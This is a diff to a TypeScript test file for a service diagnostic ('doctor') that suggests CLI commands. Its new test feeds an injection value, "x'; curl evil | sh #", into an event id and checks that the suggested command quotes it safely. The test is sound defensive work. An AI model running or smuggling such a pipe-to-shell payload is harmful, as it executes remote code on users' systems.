@@ -20,7 +20,7 @@ const call: OverdueEntry = { ...entry, kind: 'call', name: 'bank.charge', step: 
 const lost = { effect: 'bank.charge', intents: 2, oldestMs: 120_000 };
 const status: ReconcilerStatus = {
   ...{ name: 'stock-copy', now, lastCompletedAt: null, paused: null, held: null, requestedBy: null },
-  ...{ approved: null, overdueSince: null },
+  ...{ approved: null, overdueSince: null, window: { since: now, repairs: 0, lastRunKeys: 0 } },
   ...{ leader: 'host', keys: { queued: 0, pending: 0, running: 0, terminal: 0 } },
 };
 const halted = { code: 'gap', reason: 'an event is missing', at: now };
@@ -60,6 +60,16 @@ describe('the doctor’s checks of a service', () => {
   ])('the doctor finds %s, with a command that exists', async (_, [finding], verdict, text) => {
     expect(finding).toMatchObject({ verdict, text: expect.stringContaining(text) as string });
     await expect(parseOnly((finding?.next ?? '').split(' ').slice(1))).resolves.toBeDefined();
+  });
+
+  it('the doctor quotes an id that an event chose, so that a copied command runs nothing of it', () => {
+    const id = "x'; curl evil | sh #";
+    const [step, workflow] = [
+      checkJournal([{ ...entry, id }], []),
+      checkJournal([{ ...entry, kind: 'workflow', id }], []),
+    ];
+    expect(step[0]?.next).toBe(`converge saga show 'x'\\''; curl evil | sh #'`);
+    expect(workflow[0]?.next).toBe(`converge workflow show trip 'x'\\''; curl evil | sh #'`);
   });
 
   it('the doctor finds nothing in a sound service, and nothing wrong with a paused reconciler', () => {
